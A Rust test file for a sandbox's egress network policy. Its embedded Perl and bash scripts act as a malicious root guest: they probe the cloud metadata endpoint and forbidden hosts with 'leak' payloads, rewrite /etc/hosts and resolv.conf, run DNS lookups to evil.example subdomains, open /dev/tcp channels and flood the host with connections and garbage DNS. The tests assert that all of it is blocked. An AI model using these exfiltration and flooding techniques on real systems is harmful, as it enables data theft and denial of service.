//! A guest whose root means harm. Whatever it does, no byte leaves that the policy forbids, the host's
//! memory stays flat, and the next command works.

use super::program;
use scenarios::{Peer, Workspace, World, descendants, peak_kib};
use serde_json::Value;
use std::time::Duration;

/// What the keeper of a machine may need at most, in KiB: 512 streams of 128 KiB each way and the rest.
const MOST_KIB: u64 = 160 << 10;

#[test]
fn nothing_that_is_forbidden_gets_out_by_any_other_way() {
    let world = World::new();
    let (allowed, forbidden) = (Peer::without_files(), Peer::without_files());
    let workspace =
        world.workspace(&["--network-policy", "egress", "--allow-host", &allowed.name()]);
    let body = format!(
        r#"
        my $forbidden = {forbidden};
        sub told {{ my ($what, $host, $port) = @_;
            my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp');
            print "$what: ", !$s ? "$!" : do {{ print $s "echo\nleak\n"; my $l = <$s>; $l // 'nothing' }}, "\n" }}
        # addresses, in all their forms
        told('address', '203.0.113.7', 443);
        told('metadata', '169.254.169.254', 80);
        told('private', '10.0.0.1', 80);
        told('zero', '0.0.0.0', $forbidden);
        told('reserved', '240.0.0.1', 80);
        told('name without owner', '198.18.9.9', 80);
        told('another port of the host', 'host.pyro.internal', $forbidden);
        # DNS over TCP and HTTPS at an address
        told('dns over tls', '1.1.1.1', 853); told('dns over https', '8.8.8.8', 443);
        # no other protocol has a way
        use Socket;
        for my $kind ([Socket::SOCK_DGRAM, 17, 443], [Socket::SOCK_RAW, 1, 0]) {{
            socket(my $s, AF_INET, $kind->[0], $kind->[1]) or die $!;
            my $sent = send $s, 'x' x 64, 0, pack_sockaddr_in($kind->[2], inet_aton('203.0.113.7'));
            print "protocol $kind->[1]: ", defined $sent ? 'sent' : "$!", "\n" }}
        "#,
        forbidden = forbidden.port
    );
    let words = ["perl", "-e", &program(allowed.port, &body)];
    let run = workspace.exec(&words).succeeds();
    for line in run.lines() {
        let (what, came) = line.split_once(": ").unwrap();
        assert!(
            [
                "nothing",
                "Permission denied",
                "Connection refused",
                "Network is unreachable",
                "Connection reset by peer"
            ]
            .contains(&came),
            "{what}: {came}"
        );
    }
    assert_eq!(run.lines().len(), 11, "{}", run.text());

    // root turns the steering and the name server to its own ends: the host has the last word
    let bent = format!(
        "mount -t tmpfs none /mnt; echo '203.0.113.7 host.pyro.internal' >> /etc/hosts; \
         echo 'nameserver 8.8.8.8' > /etc/resolv.conf; getent hosts evil.example; \
         getent hosts {}.evil.example; for i in $(seq 30); do echo > /dev/udp/8.8.8.8/53; done; \
         (exec 3<>/dev/tcp/8.8.8.8/53; printf '\\0\\2hi' >&3; timeout 2 cat <&3 | wc -c); \
         (exec 3<>/dev/tcp/host.pyro.internal/{}; cat <&3); true",
        "x".repeat(50),
        forbidden.port
    );
    let _ = workspace.exec(&["bash", "-c", &bent]).succeeds();
    assert_eq!(forbidden.said(), Vec::<String>::new());
    assert_eq!(allowed.said(), Vec::<String>::new());
    let log = workspace.json(&["network", "log"], &[]);
    for host in ["203.0.113.7", "169.254.169.254", "1.1.1.1", "evil.example", "host.pyro.internal"]
    {
        let told = log["connections"].as_array().unwrap().iter();
        let told: Vec<&Value> = told.filter(|one| one["host"] == host).collect();
        assert!(!told.is_empty() && told.iter().all(|one| one["decision"] == "refused"), "{host}");
    }
    workspace.delete();
    world.assert_clean();
}

#[test]
fn a_flood_of_connections_costs_the_guest_its_own_and_the_host_nothing() {
    let world = World::new();
    let peer = Peer::without_files();
    let workspace = world.workspace(&["--network-policy", "egress", "--allow-net", "127.0.0.0/8"]);
    // more than may be open, each to a server that never reads, each as full as it gets
    let flood = r#"
        my @all; my $full = 'x' x 300000;
        for (1 .. 700) {
            my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Blocking => 0) or next;
            push @all, $s }
        sleep 1;
        for my $s (@all) { syswrite $s, "mute 15000\n"; syswrite $s, $full }
        sleep 3; for my $s (@all) { syswrite $s, $full }
        print scalar(@all) >= 600 ? 'flooded' : scalar @all;
    "#;
    let words = ["perl", "-e", &program(peer.port, flood)];
    let call = workspace.exec_with(&["--timeout-seconds", "120"], &words);
    let run = call.within(Duration::from_secs(150)).succeeds();
    assert_eq!(run.text(), "flooded");
    assert!(peer.said().len() <= 512, "{} connections were let through", peer.said().len());
    assert_shim_is_small();
    assert_still_works(&workspace, &peer);

    // questions without end, and garbage where questions are asked
    let questions = r#"
        socket(my $u, 2, 2, 17); use Socket;
        my $to = pack_sockaddr_in(53, inet_aton('198.18.0.1'));
        for my $n (1 .. 3000) {
            my $name = join '', map { chr(length $_) . $_ } ("n$n", 'invalid');
            send $u, pack('n6', $n, 0x100, 1, 0, 0, 0) . "$name\0" . pack('n2', 1, 1), 0, $to;
            send $u, join('', map { chr rand 256 } 1 .. rand 200), 0, $to }
        for (1 .. 50) {
            my $s = dial('198.18.0.1', 53); syswrite $s, join '', map { chr rand 256 } 1 .. 5000 }
        print 'asked';
    "#;
    let words = ["perl", "-e", &program(peer.port, questions)];
    assert_eq!(workspace.exec(&words).succeeds().text(), "asked");
    assert_shim_is_small();
    assert_still_works(&workspace, &peer);
    workspace.delete();
    world.assert_clean();
}

#[track_caller]
fn assert_shim_is_small() {
    let shim = descendants().into_iter().find(scenarios::Process::is_shim).unwrap();
    let peak = peak_kib(shim.pid).unwrap();
    assert!(peak < MOST_KIB, "the keeper of the machine needed {peak} KiB");
}

#[track_caller]
fn assert_still_works(workspace: &Workspace<'_>, peer: &Peer) {
    let body = r#"
        for (1 .. 40) {
            my $s = eval { dial($host, $port) }; print $s "down 5\n" if $s;
            my $got = $s ? slurp($s) : ''; if ($got eq '5') { print 'works'; exit } sleep 1 }
    "#;
    let words = ["perl", "-e", &program(peer.port, body)];
    let run = workspace.exec_with(&["--timeout-seconds", "60"], &words).succeeds();
    assert_eq!(run.text(), "works");
}
